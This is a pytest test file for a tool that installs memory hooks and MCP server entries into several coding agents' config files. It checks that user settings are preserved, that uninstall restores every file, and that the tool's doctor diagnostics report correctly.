"""`ov install hooks` / `ov uninstall hooks`: only ov's entries change, and uninstall gives every file back."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path

import pytest

from ov.hosts import install

HOSTS = ("claude", "codex", "gemini", "cursor", "opencode")

CLAUDE_SETTINGS = """{
  "model": "opus",
  "permissions": {"allow": ["Bash(git status)"]},
  "hooks": {
    "Stop": [
      {"hooks": [{"type": "command", "command": "notify-send done"}]}
    ],
    "PreToolUse": [
      {"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh", "timeout": 5}]}
    ]
  }
}
"""
GEMINI_SETTINGS = """{
  // my Gemini settings
  "theme": "GitHub",
  "security": {"auth": {"selectedType": "gemini-api-key"}}, /* auth */
  "hooks": {
    "BeforeTool": [{"matcher": "write_file", "hooks": [{"name": "lint", "type": "command", "command": "lint.sh", "timeout": 5000}]}]
  }
}
"""
CURSOR_HOOKS = '{\n\t"version": 1,\n\t"hooks": {\n\t\t"stop": [{"command": "./cursor-stop.sh"}]\n\t}\n}\n'


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else b"<dir>") for p in sorted(root.rglob("*"))}


@pytest.fixture
def user_home(tmp_path: Path, monkeypatch) -> Path:
    home = Path(os.environ["HOME"])
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text(CLAUDE_SETTINGS)
    (home / ".gemini").mkdir()
    (home / ".gemini" / "settings.json").write_text(GEMINI_SETTINGS)
    (home / ".cursor").mkdir()
    (home / ".cursor" / "hooks.json").write_text(CURSOR_HOOKS)
    monkeypatch.delenv("CODEX_HOME", raising=False)
    monkeypatch.delenv("CLAUDE_CONFIG_DIR", raising=False)
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home


def _hosts_args() -> list[str]:
    return [arg for host in HOSTS for arg in ("--host", host)]


def test_install_keeps_everything_else_and_uninstall_gives_every_file_back(ov, user_home):
    before = _tree(user_home)
    first = ov("install", "hooks", *_hosts_args(), "--yes")
    assert first.exit_code == 0, first.stderr
    installed = _tree(user_home)
    settings = json.loads((user_home / ".claude" / "settings.json").read_text())
    assert settings["model"] == "opus" and settings["permissions"] == {"allow": ["Bash(git status)"]}
    assert settings["hooks"]["Stop"][0] == {"hooks": [{"type": "command", "command": "notify-send done"}]}  # the user's first
    assert settings["hooks"]["PreToolUse"] == [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh", "timeout": 5}]}]
    assert install.is_ours(settings["hooks"]["Stop"][1]["hooks"][0]["command"])
    gemini = (user_home / ".gemini" / "settings.json").read_text()
    assert "// my Gemini settings" in gemini and "/* auth */" in gemini
    assert (user_home / ".cursor" / "hooks.json").read_text().startswith('{\n\t"version": 1,\n\t"hooks": {\n\t\t"stop": [{"command": "./cursor-stop.sh"}')

    again = ov("install", "hooks", *_hosts_args(), "--yes")
    assert again.exit_code == 0 and "unchanged" in again.stdout
    assert _tree(user_home) == installed  # idempotent: a second install changes no byte

    removed = ov("uninstall", "hooks", "--yes")  # a script passes install's flags to both
    assert removed.exit_code == 0, removed.stderr
    assert _tree(user_home) == before  # every file, backup and folder as it was


def test_each_hosts_file_has_the_shape_that_host_reads(ov, user_home, tmp_path, snapshot):
    fresh = tmp_path / "fresh"
    os.environ["HOME"] = str(fresh)  # monkeypatched per test by the hermetic fixture
    assert ov("install", "hooks", *_hosts_args(), "--yes").exit_code == 0
    command = install.hook_command(install.ov_command(), "HOST", "EVENT").rsplit(" hook ", 1)[0]
    # The install's OV_HOME (this test's) is pinned ahead of each hook's ov.
    files = {name: data.decode().replace(os.environ["OV_HOME"], "<ov-home>").replace(command, "<ov>") for name, data in _tree(fresh).items() if data != b"<dir>"}
    assert files == snapshot


def test_an_install_from_another_ov_is_replaced_not_doubled(ov, user_home):
    settings = user_home / ".claude" / "settings.json"
    data = json.loads(settings.read_text())
    data["hooks"]["SessionStart"] = [{"hooks": [{"type": "command", "command": "/old/venv/bin/ov hook claude session-start", "timeout": 30}]}]
    settings.write_text(json.dumps(data, indent=2))
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    groups = json.loads(settings.read_text())["hooks"]["SessionStart"]
    assert len(groups) == 1 and "/old/venv" not in groups[0]["hooks"][0]["command"]


def test_a_group_shared_with_a_users_handler_keeps_the_users_handler(ov, user_home):
    settings = user_home / ".claude" / "settings.json"
    data = json.loads(settings.read_text())
    data["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": "ov hook claude stop"})
    settings.write_text(json.dumps(data, indent=2))
    assert ov("uninstall", "hooks", "--host", "claude").exit_code == 0
    assert json.loads(settings.read_text())["hooks"]["Stop"] == [{"hooks": [{"type": "command", "command": "notify-send done"}]}]


@pytest.mark.parametrize(
    ("text", "where"),
    [('{\n  "hooks": {\n    "Stop": []\n  \n', "line 5"), ('{"hooks": [1, 2,]}', "line 1, column 16"), ('{"a": 1, "a": 2}', "line 1")],
)
def test_a_file_that_does_not_parse_is_refused_and_left_alone(ov, user_home, text, where):
    settings = user_home / ".claude" / "settings.json"
    settings.write_text(text)
    result = ov("install", "hooks", "--host", "claude", "--yes", "--json")
    assert result.exit_code == 2
    error = result.error
    assert str(settings) in error["message"] and where in error["message"], error
    assert settings.read_text() == text
    assert not (settings.parent / "settings.json.ov.bak").exists() and not (Path(os.environ["OV_HOME"]) / "installs").exists()


def test_a_hooks_key_of_the_wrong_type_is_refused(ov, user_home):
    settings = user_home / ".claude" / "settings.json"
    settings.write_text('{"hooks": ["not", "an", "object"]}\n')
    result = ov("install", "hooks", "--host", "claude", "--yes")
    assert result.exit_code == 2 and "not an object" in result.stderr
    assert settings.read_text() == '{"hooks": ["not", "an", "object"]}\n'


def test_a_foreign_opencode_plugin_is_never_overwritten(ov, user_home):
    plugin = user_home / ".config" / "opencode" / "plugins" / "ov-memory.js"
    plugin.parent.mkdir(parents=True)
    plugin.write_text("export const Mine = async () => ({})\n")
    result = ov("install", "hooks", "--host", "opencode", "--yes")
    assert result.exit_code == 2 and "is not ov's plugin" in result.stderr
    assert plugin.read_text() == "export const Mine = async () => ({})\n"
    kept = ov("uninstall", "hooks", "--host", "opencode")
    assert kept.exit_code == 0 and plugin.exists()
    assert f"{plugin} is not ov's plugin: left as it is" in kept.stdout  # said, not only done


def test_dry_run_prints_the_diff_and_changes_nothing(ov, user_home):
    before = _tree(user_home)
    result = ov("install", "hooks", "--host", "claude", "--host", "cursor", "--yes", "--dry-run")
    assert result.exit_code == 0
    assert "+++ " in result.stdout and "hook claude session-start" in result.stdout and "hook cursor stop" in result.stdout
    assert _tree(user_home) == before and not (Path(os.environ["OV_HOME"]) / "installs").exists()
    as_json = ov("install", "hooks", "--host", "claude", "--yes", "--dry-run", "--json").json["result"]
    assert as_json["dry_run"] and as_json["files"][0]["changed"] and as_json["files"][0]["diff"].startswith("---")


def test_project_scope_writes_into_the_project(ov, user_home, tmp_path, monkeypatch):
    project = tmp_path / "repo"
    (project / ".git").mkdir(parents=True)
    (project / "src").mkdir()
    monkeypatch.chdir(project / "src")
    assert ov("install", "hooks", "--host", "claude", "--host", "gemini", "--scope", "project", "--yes").exit_code == 0
    assert install.is_ours(json.loads((project / ".claude" / "settings.json").read_text())["hooks"]["SessionStart"][0]["hooks"][0]["command"])
    assert "ov-session-start" in (project / ".gemini" / "settings.json").read_text()
    assert ov("uninstall", "hooks", "--scope", "project").exit_code == 0
    assert not (project / ".claude").exists() and not (project / ".gemini").exists()


def test_a_project_files_backup_is_kept_in_ovs_home_not_in_the_project(ov, user_home, tmp_path, monkeypatch):
    """`<file>.ov.bak` beside a project's settings was one `git add -A` from the team's repository."""
    project = tmp_path / "repo"
    (project / ".git").mkdir(parents=True)
    settings = project / ".claude" / "settings.json"
    settings.parent.mkdir()
    own = '{\n  "permissions": {"allow": ["Bash(make test)"]}\n}\n'
    settings.write_text(own)
    monkeypatch.chdir(project)
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    assert sorted(p.name for p in settings.parent.iterdir()) == ["settings.json"]
    (backup,) = (Path(os.environ["OV_HOME"]) / "installs").glob("*.bak")
    assert backup.read_text() == own and backup.name.startswith("claude-hooks-project-")
    assert ov("uninstall", "hooks", "--scope", "project", "--yes").exit_code == 0
    assert settings.read_text() == own and not backup.exists()
    # One an earlier build left beside the file goes with the uninstall too, once the file is back.
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    legacy = settings.with_name("settings.json.ov.bak")
    legacy.write_text(own)
    assert ov("uninstall", "hooks", "--scope", "project", "--yes").exit_code == 0
    assert settings.read_text() == own and not legacy.exists()


def test_no_host_found_is_bad_input(ov, tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "empty"))
    monkeypatch.setenv("PATH", str(tmp_path / "nobin"))
    result = ov("install", "hooks", "--yes")
    assert result.exit_code == 2 and "--host" in result.stderr


def test_a_host_folder_ov_made_for_its_mcp_server_is_no_sign_of_the_host(ov, tmp_path, monkeypatch):
    """`ov install mcp` makes ~/.codex (and Gemini's, Cursor's, OpenCode's folders) for its entry: doctor
    took them for installed hosts lacking ov's hooks, and a plain `ov install hooks` wired all four."""
    home = tmp_path / "bare"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", str(tmp_path / "nobin"))  # none of the hosts' programs
    for name in ("CODEX_HOME", "CLAUDE_CONFIG_DIR", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)
    hosts = ("codex", "gemini", "cursor", "opencode")
    assert ov("install", "mcp", *[arg for host in hosts for arg in ("--host", host)], "--yes").exit_code == 0
    assert (home / ".codex" / "config.toml").exists() and (home / ".config" / "opencode" / "opencode.json").exists()
    checks = _checks(ov)
    assert not [name for name, check in checks.items() if "is installed, but" in check["detail"]], checks
    refused = ov("install", "hooks", "--yes")
    assert refused.exit_code == 2 and "no coding agent found" in refused.stderr
    # Once Codex itself writes into its folder, it is a host: doctor says so and a plain install wires it.
    (home / ".codex" / "sessions").mkdir()
    (home / ".codex" / "auth.json").write_text("{}")
    assert _checks(ov)["codex hooks"]["detail"] == "Codex is installed, but ov's hooks are not in it"
    assert ov("install", "hooks", "--yes").exit_code == 0
    assert (home / ".codex" / "hooks.json").exists() and not (home / ".gemini" / "settings.json").read_text().count("hook gemini")
    assert not (home / ".cursor" / "hooks.json").exists() and not (home / ".config" / "opencode" / "plugins").exists()


def test_the_command_is_an_absolute_ov(ov, user_home):
    assert ov("install", "hooks", "--host", "codex", "--yes").exit_code == 0
    command = json.loads((user_home / ".codex" / "hooks.json").read_text())["hooks"]["Stop"][0]["hooks"][0]["command"]
    assert os.path.isabs(install.hook_program(command)) and command.endswith("hook codex stop")


# --- doctor ---------------------------------------------------------------------------------------


def _checks(ov) -> dict[str, dict]:
    result = ov("doctor", "--json")
    return {c["name"]: c for c in json.loads(result.stdout)["result"]["checks"]}


def test_doctor_reports_each_hosts_wiring_and_what_fixes_it(ov, user_home):
    assert ov("install", "hooks", "--host", "claude", "--host", "codex", "--yes").exit_code == 0
    checks = _checks(ov)
    assert checks["claude hooks (user)"]["status"] == "ok"
    assert checks["codex review"]["status"] == "warn" and "--trust" in checks["codex review"]["fix"]
    assert checks["claude last run"]["status"] == "ok" and "no hook has run yet" in checks["claude last run"]["detail"]
    # An ov that moved: every hook would fail silently.
    settings = user_home / ".claude" / "settings.json"
    settings.write_text(settings.read_text().replace(install.ov_command()[0], "/moved/venv/bin/ov"))
    moved = _checks(ov)["claude hooks (user)"]
    assert moved["status"] == "fail" and "/moved/venv/bin/ov" in moved["detail"] and moved["fix"] == "ov install hooks --host claude --scope user"


def test_doctor_tells_an_older_ovs_opencode_plugin_and_reinstalling_replaces_it(ov, user_home):
    """An upgrade can change the plugin (it once lost a turn's capture when `opencode run` exited);
    the file keeps the old one until `ov install hooks` writes it again."""
    assert ov("install", "hooks", "--host", "opencode", "--yes").exit_code == 0
    assert _checks(ov)["opencode hooks (user)"]["status"] == "ok"
    plugin = user_home / ".config" / "opencode" / "plugins" / "ov-memory.js"
    current = plugin.read_text()
    plugin.write_text(current.replace("    dispose: async () => {", "    disposed: async () => {"))  # as an older ov wrote it
    old = _checks(ov)["opencode hooks (user)"]
    assert old["status"] == "warn" and "differs from the plugin this ov writes" in old["detail"] and old["fix"] == "ov install hooks --host opencode --scope user"
    assert ov("install", "hooks", "--host", "opencode", "--yes").exit_code == 0
    assert plugin.read_text() == current and _checks(ov)["opencode hooks (user)"]["status"] == "ok"


def test_doctor_shows_the_last_hook_run(ov, user_home, tmp_path):
    from ov.hosts.runtime import run

    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert ov("remember", "I prefer short commit messages").exit_code == 0
    run("claude", "session-start", json.dumps({"session_id": "s", "cwd": str(tmp_path)}).encode())
    last = _checks(ov)["claude last run"]
    assert last["status"] == "ok" and "session-start injected" in last["detail"] and "just now" in last["detail"]


def test_cursor_running_claudes_hooks_is_answered_once(ov, user_home, tmp_path):
    from ov.hosts import hooklog
    from ov.hosts.runtime import run

    assert ov("install", "hooks", "--host", "claude", "--host", "cursor", "--yes").exit_code == 0
    assert ov("remember", "I prefer short commit messages").exit_code == 0
    payload = {"session_id": "s", "conversation_id": "s", "cwd": str(tmp_path), "cursor_version": "2.1"}
    assert run("claude", "session-start", json.dumps(payload).encode()) == ""
    assert hooklog.read(Path(os.environ["OV_HOME"]))[-1]["outcome"] == "skipped: Cursor runs its own ov hooks"
    assert "short commit" in json.loads(run("cursor", "session-start", json.dumps(payload).encode()))["additional_context"]


def test_hooks_in_the_users_file_and_the_projects_answer_each_event_once(ov, project, monkeypatch):
    """A project's committed hooks (a bare `ov`) beside the user's own (an absolute path): the host
    ran both, and every prompt got its recall twice. The project's entry defers to the user's."""
    from ov.hosts import hooklog
    from ov.hosts.runtime import run

    (Path(os.environ["HOME"]) / ".claude").mkdir(parents=True, exist_ok=True)
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    assert ov("remember", "I prefer short commit messages").exit_code == 0
    payload = json.dumps({"session_id": "s", "cwd": str(project), "hook_event_name": "SessionStart", "source": "startup"}).encode()

    def log() -> str:
        return hooklog.read(Path(os.environ["OV_HOME"]))[-1]["outcome"]

    # Alone, the project's entry answers.
    assert "short commit" in run("claude", "session-start", payload, scope="project")
    result = ov("install", "hooks", "--host", "claude", "--yes", "--json")
    (note,) = [n for n in result.json["result"]["notes"] if "your file and the project's" in n]
    assert "each event is answered once" in note
    assert run("claude", "session-start", payload, scope="project") == "" and log() == "skipped: the user-scope hook answers"
    # The skipped run names its session, as the user's entry's run does (`ov hooks log` shows both).
    assert hooklog.read(Path(os.environ["OV_HOME"]))[-1]["session"] == "cc-s"
    assert "cc-s" in ov("hooks", "log").stdout.splitlines()[-1]
    assert "short commit" in run("claude", "session-start", payload)  # the user's entry
    # As the host runs it: the project's command line, through the console script.
    (command,) = [c for c in _ov_handlers(project / ".claude" / "settings.json") if c.endswith("session-start")]
    assert command == "env OV_HOOK_SCOPE=project ov hook claude session-start" or command.startswith("env OV_HOOK_SCOPE=project /")
    ran = subprocess.run(["sh", "-c", command], input=payload, capture_output=True, timeout=60, check=False)
    assert (ran.returncode, ran.stdout) == (0, b"") and log() == "skipped: the user-scope hook answers"
    assert _checks(ov)["claude scopes"]["status"] == "ok"
    # An older ov's project entries say nothing of their scope: both answer, and doctor says so.
    settings = project / ".claude" / "settings.json"
    settings.write_text(settings.read_text().replace("env OV_HOOK_SCOPE=project ", ""))
    check = _checks(ov)["claude scopes"]
    assert check["status"] == "warn" and "every event runs ov twice" in check["detail"] and check["fix"].startswith("ov install hooks --host claude --scope project")
    # The user's entry gone for one event: the project's answers it.
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    user = Path(os.environ["HOME"]) / ".claude" / "settings.json"
    data = json.loads(user.read_text())
    del data["hooks"]["SessionStart"]
    user.write_text(json.dumps(data))
    assert "short commit" in run("claude", "session-start", payload, scope="project")


def test_a_project_codex_hook_answers_while_the_users_is_unreviewed(ov, project):
    """Codex skips a user's hook until reviewed: the project's deferring to it would leave none."""
    from ov.hosts.hookentries import user_scope_answers

    assert ov("install", "hooks", "--host", "codex", "--yes").exit_code == 0
    assert not user_scope_answers("codex", "stop")
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert user_scope_answers("claude", "stop") and not user_scope_answers("gemini", "stop")


def test_a_project_hook_answers_where_the_users_ov_cannot_start(ov, project, tmp_path):
    """The user's file holds an older ov's entries whose ov is gone (its virtualenv removed): the
    host runs them and they fail, so a project's entry deferring to them left every event unanswered."""
    from ov.hosts.hookentries import user_scope_answers

    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert user_scope_answers("claude", "prompt-submit")
    settings = Path(os.environ["HOME"]) / ".claude" / "settings.json"
    commands = _ov_handlers(settings)
    gone = str(tmp_path / "removed-venv" / "bin" / "ov")
    text = settings.read_text()
    for command in commands:
        text = text.replace(command, f"{shlex.quote(gone)} hook claude {command.rsplit(' ', 1)[1]}")
    settings.write_text(text)
    assert not user_scope_answers("claude", "prompt-submit")
    # The install and doctor say who answers: the project's entries, not "they defer to yours".
    installed = ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes", "--json")
    (note,) = [n for n in installed.json["result"]["notes"] if "your file and the project's" in n]
    assert "defer to yours" not in note and "the project's answer, not yours" in note and gone in note, note
    scopes = _checks(ov)["claude scopes"]
    assert "defer to yours" not in scopes["detail"] and "the project's answer, not yours" in scopes["detail"], scopes
    # One run by name: whether PATH finds it is the hook's environment's to say.
    settings.write_text(text.replace(shlex.quote(gone), "ov-of-another-name"))
    assert not user_scope_answers("claude", "prompt-submit")


def test_a_projects_hooks_in_the_users_own_file_answer(ov, monkeypatch):
    """A project at HOME (`ov install hooks --scope project` run in ~) writes its entries into the
    user's own file: each deferred to itself, the user's entry it found there, and no event was
    ever answered. An entry that defers answers for no one."""
    from ov.hosts.runtime import run

    home = Path(os.environ["HOME"])
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    monkeypatch.chdir(home)
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    assert ov("remember", "I prefer short commit messages").exit_code == 0
    payload = json.dumps({"session_id": "s", "cwd": str(home), "hook_event_name": "SessionStart", "source": "startup"}).encode()
    assert "short commit" in run("claude", "session-start", payload, scope="project")


def test_the_deferral_reads_a_large_plain_user_file_without_the_editing_parser(ov, project, monkeypatch):
    """Every hook of a project's entry reads the user's file: a settings.json of a few MB took the
    editing parser seconds, outside the hook's deadline, on every prompt. Plain JSON is read by the
    C parser; only a file it refuses, or one that is no object, goes through the editing one."""
    from ov.hosts import hookentries
    from ov.hosts.hookentries import user_scope_answers

    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    settings = Path(os.environ["HOME"]) / ".claude" / "settings.json"
    data = json.loads(settings.read_text())
    data["permissions"] = {"allow": [f"Bash(tool-{i} *)" for i in range(250_000)]}
    settings.write_text(json.dumps(data, indent=2))
    edited = []
    parse = hookentries.parse
    monkeypatch.setattr(hookentries, "parse", lambda spec_, data: edited.append(spec_.path) or parse(spec_, data))
    assert user_scope_answers("claude", "prompt-submit")
    assert edited == []
    settings.write_text("[]")  # JSON, but no object: the editing parser says why it is no settings file
    user_scope_answers("claude", "prompt-submit")
    assert len(edited) == 1


@pytest.mark.parametrize(
    "command",
    [
        "env OV_HOOK_SCOPE=project ov hook claude stop",
        "env OV_HOOK_SCOPE=project /a/ov hook cursor stop",
        "shopt -s execfail; OV_HOOK_SCOPE=project exec ov hook gemini stop || exit 1",
        # What a project got on 2026-12-05: read, and replaced by an install, never written again.
        "ov hook claude stop --scope project",
        "/a/ov hook cursor stop --scope  project",
        "shopt -s execfail; exec ov hook gemini stop --scope project || exit 1",
    ],
)
def test_a_projects_entry_is_ovs_and_says_it_defers(command):
    assert install.is_ours(command) and install.defers(command)
    assert install.hook_env(command) == {}  # the mark is no pin of a home or identity
    assert not install.defers("ov hook claude stop") and not install.is_ours("ov hook claude stop --scope elsewhere")
    assert not install.defers("env OV_HOOK_SCOPE=user ov hook claude stop") and not install.defers("env OV_HOME=/h ov hook claude stop")


def test_a_projects_entries_carry_no_option_an_older_ov_refuses(ov, project, tmp_path, monkeypatch):
    """A project's entries are committed and run by every teammate's ov, and after a downgrade by an
    older one: `--scope project` made every ov before it exit 2 (`No such option`), which Claude
    Code, Codex, Gemini CLI and Cursor read as "block" (the prompt erased). The mark is in the
    entry's environment; the command line is `ov hook HOST EVENT`, which every ov accepts."""
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov("install", "hooks", *_hosts_args(), "--scope", "project", "--yes").exit_code == 0
    files = {"claude": ".claude/settings.json", "codex": ".codex/hooks.json", "cursor": ".cursor/hooks.json", "gemini": ".gemini/settings.json"}
    for host, name in files.items():
        spec = install.spec(host, "project", project)
        commands = [c for cs in install.installed_entries(spec).values() for c in cs]
        assert commands and all(install.defers(c) for c in commands), (host, commands)
        for command in commands:
            line = shlex.split(command[len("shopt -s execfail; ") : -len(" || exit 1")] if install.is_guarded(command) else command)
            start = line.index("ov")
            assert line[start + 1 : start + 2] == ["hook"] and len(line[start:]) == 4, (name, command)  # ov hook HOST EVENT, no option


@pytest.mark.parametrize("host", ["claude", "codex", "cursor", "gemini"])
def test_an_install_replaces_the_projects_entries_of_2026_12_05(ov, project, tmp_path, monkeypatch, host):
    """Entries written with `--scope project` are replaced by the new form, not doubled; an
    uninstall finds either form."""
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov("install", "hooks", "--host", host, "--scope", "project", "--yes").exit_code == 0
    spec = install.spec(host, "project", project)
    fresh = spec.path.read_bytes()
    old = re.sub(r"OV_HOOK_SCOPE=project (exec )?ov hook (\w+) ([\w-]+)", r"\1ov hook \2 \3 --scope project", fresh.decode()).replace("env ov hook", "ov hook")
    assert old != fresh.decode() and "OV_HOOK_SCOPE" not in old
    spec.path.write_text(old)
    assert all("--scope project" in c and install.defers(c) for cs in install.installed_entries(spec).values() for c in cs)
    check = _checks(ov)[f"{host} hooks (project)"]
    assert check["status"] == "warn" and "refuses with exit 2" in check["detail"] and check["fix"].startswith(f"ov install hooks --host {host} --scope project")
    assert ov("install", "hooks", "--host", host, "--scope", "project", "--yes").exit_code == 0
    assert spec.path.read_bytes() == fresh
    assert "refuses with exit 2" not in _checks(ov)[f"{host} hooks (project)"]["detail"]
    again = ov("install", "hooks", "--host", host, "--scope", "project", "--yes")
    assert again.exit_code == 0 and spec.path.read_bytes() == fresh  # idempotent
    spec.path.write_text(old)
    assert ov("uninstall", "hooks", "--host", host, "--scope", "project", "--yes").exit_code == 0
    assert not install.installed_entries(spec)


def test_a_project_entry_of_either_form_defers_when_the_host_runs_it(ov, project):
    """Run as the host runs it (through a shell, the console script): the new form's environment
    and the old form's option both make the project's entry defer to the user's."""
    from ov.hosts import hooklog

    home = Path(os.environ["HOME"])
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    payload = json.dumps({"session_id": "s", "cwd": str(project), "hook_event_name": "SessionStart", "source": "startup"}).encode()
    program = shlex.quote(str(_this_ov()))
    for command in (f"env OV_HOOK_SCOPE=project {program} hook claude session-start", f"{program} hook claude session-start --scope project"):
        ran = subprocess.run(["sh", "-c", command], input=payload, capture_output=True, timeout=60, check=False)
        assert (ran.returncode, ran.stdout) == (0, b""), ran.stderr
        assert hooklog.read(Path(os.environ["OV_HOME"]))[-1]["outcome"] == "skipped: the user-scope hook answers"
    # `--scope user` says more than the environment.
    ran = subprocess.run(["sh", "-c", f"env OV_HOOK_SCOPE=project {program} hook claude session-start --scope user"], input=payload, capture_output=True, timeout=60, check=False)
    assert ran.returncode == 0 and hooklog.read(Path(os.environ["OV_HOME"]))[-1]["outcome"] != "skipped: the user-scope hook answers"


# --- the MCP server's registration ---------------------------------------------------------------

CODEX_CONFIG = '# my Codex settings\nmodel = "o3"  # the good one\n\n[mcp_servers.docs]\ncommand = "docs-mcp"\nenv = { TOKEN_FILE = "~/.docs" }\n'
OPENCODE_CONFIG = '{\n  // OpenCode\n  "theme": "tokyonight",\n  "mcp": {"other": {"type": "remote", "url": "https://example.com/mcp"}}\n}\n'


def test_mcp_registration_keeps_everything_else_and_uninstall_gives_it_back(ov, user_home):
    (user_home / ".codex").mkdir()
    (user_home / ".codex" / "config.toml").write_text(CODEX_CONFIG)
    (user_home / ".config" / "opencode").mkdir(parents=True)
    (user_home / ".config" / "opencode" / "opencode.json").write_text(OPENCODE_CONFIG)
    before = _tree(user_home)
    assert ov("install", "mcp", *_hosts_args(), "--yes").exit_code == 0
    installed = _tree(user_home)
    import tomllib

    codex = tomllib.loads((user_home / ".codex" / "config.toml").read_text())
    assert codex["mcp_servers"]["docs"] == {"command": "docs-mcp", "env": {"TOKEN_FILE": "~/.docs"}}
    # Not required: Codex would refuse to start whenever ov's server cannot.
    assert codex["mcp_servers"]["ov"]["args"] == ["mcp"] and "required" not in codex["mcp_servers"]["ov"]
    assert codex["mcp_servers"]["ov"]["default_tools_approval_mode"] == "approve"
    assert (user_home / ".codex" / "config.toml").read_text().startswith(CODEX_CONFIG)  # comments and all
    opencode = (user_home / ".config" / "opencode" / "opencode.json").read_text()
    assert "// OpenCode" in opencode and '"type": "local"' in opencode
    claude = json.loads((user_home / ".claude.json").read_text())["mcpServers"]["ov"]
    assert claude["type"] == "stdio" and claude["args"] == ["mcp"] and os.path.isabs(claude["command"])
    # Hosts start servers with an environment of their own: the install's OV_HOME goes with the entry.
    assert claude["env"] == {"OV_HOME": os.environ["OV_HOME"]} and codex["mcp_servers"]["ov"]["env"] == {"OV_HOME": os.environ["OV_HOME"]}
    assert ov("install", "mcp", *_hosts_args(), "--yes").exit_code == 0
    assert _tree(user_home) == installed
    assert ov("uninstall", "mcp").exit_code == 0
    assert _tree(user_home) == before


def test_a_reinstall_upgrades_an_older_codex_entry_that_made_codex_wait_for_ov(ov, user_home):
    """An older ov wrote `required = true`: with ov broken, Codex refused to start at all. A
    re-install writes the entry without it, in place, and keeps the rest of the file."""
    import tomllib

    config = user_home / ".codex" / "config.toml"
    config.parent.mkdir()
    program, *args = install.ov_command()
    home = json.dumps(os.environ["OV_HOME"])
    older = "\n".join(
        [
            "[mcp_servers.ov]",
            f"command = {json.dumps(program)}",
            f"args = {json.dumps([*args, 'mcp'])}",
            "required = true",
            'default_tools_approval_mode = "approve"',
            f"env = {{ OV_HOME = {home} }}",
            "",
        ]
    )
    config.write_text(CODEX_CONFIG + "\n" + older + "\n[mcp_servers.after]\ncommand = \"after\"\n")
    check = _checks(ov)["codex mcp (user)"]
    assert check["status"] == "warn" and "required = true" in check["detail"], check
    assert ov("install", "mcp", "--host", "codex", "--yes").exit_code == 0
    text = config.read_text()
    values = tomllib.loads(text)
    assert "required" not in values["mcp_servers"]["ov"] and values["mcp_servers"]["ov"]["args"][-1] == "mcp"
    assert text.startswith(CODEX_CONFIG) and values["mcp_servers"]["after"] == {"command": "after"}
    assert text.count("[mcp_servers.ov]") == 1
    assert _checks(ov)["codex mcp (user)"]["status"] == "ok"


def test_the_identity_the_install_ran_with_goes_with_the_server(ov, user_home, monkeypatch):
    monkeypatch.setenv("OV_USER", "dana")
    assert ov("install", "mcp", "--host", "codex", "--host", "cursor", "--yes").exit_code == 0
    import tomllib

    codex = tomllib.loads((user_home / ".codex" / "config.toml").read_text())["mcp_servers"]["ov"]
    cursor = json.loads((user_home / ".cursor" / "mcp.json").read_text())["mcpServers"]["ov"]
    assert codex["env"] == cursor["env"] == {"OV_HOME": os.environ["OV_HOME"], "OV_USER": "dana"}
    assert ov("uninstall", "mcp").exit_code == 0


def test_a_projects_server_entry_pins_no_home_or_user_of_this_machine(ov, project, monkeypatch):
    """A user-scope entry pins the install's OV_HOME and OV_USER; a project's is committed, and
    with OV_USER=dana in it every teammate's server read and wrote as dana."""
    monkeypatch.setenv("OV_USER", "dana")
    result = ov("install", "mcp", "--host", "claude", "--host", "codex", "--scope", "project", "--yes", "--json")
    assert result.exit_code == 0
    import tomllib

    assert "env" not in json.loads((project / ".mcp.json").read_text())["mcpServers"]["ov"]
    assert "env" not in tomllib.loads((project / ".codex" / "config.toml").read_text())["mcp_servers"]["ov"]
    (warning,) = [w for w in result.json["result"]["warnings"] if "not written into the project's MCP entries" in w]
    assert warning.startswith("OV_HOME, OV_USER set here")
    check = _checks(ov)["claude mcp (project)"]
    assert check["status"] == "warn" and "no OV_HOME" in check["detail"] and check["fix"].startswith("set OV_HOME, OV_USER where the host starts")


def test_doctor_warns_when_the_server_is_pinned_to_another_store_than_this_environments(ov, user_home, monkeypatch, tmp_path):
    """The entry pins the install's OV_HOME; hooks use the host's environment. Two stores would
    split what the agent reads (MCP) from what it records (hooks), and doctor said both were ok."""
    assert ov("install", "mcp", "--host", "cursor", "--host", "codex", "--yes").exit_code == 0
    assert {c["status"] for name, c in _checks(ov).items() if " mcp " in name} == {"ok"}
    monkeypatch.setenv("OV_HOME", str(tmp_path / "elsewhere"))
    checks = _checks(ov)
    for host in ("cursor", "codex"):
        check = checks[f"{host} mcp (user)"]
        assert check["status"] == "warn" and "unlike this ov's environment" in check["detail"], check
        assert check["fix"].startswith(f"ov install mcp --host {host} --scope user")


def test_doctor_reads_two_spellings_of_one_home_as_one(ov, user_home, monkeypatch, tmp_path):
    """An entry pinned to ~/.ov spelled out, against a shell with no OV_HOME (the same ~/.ov), or
    reached through a link, used to warn that the server used another store."""
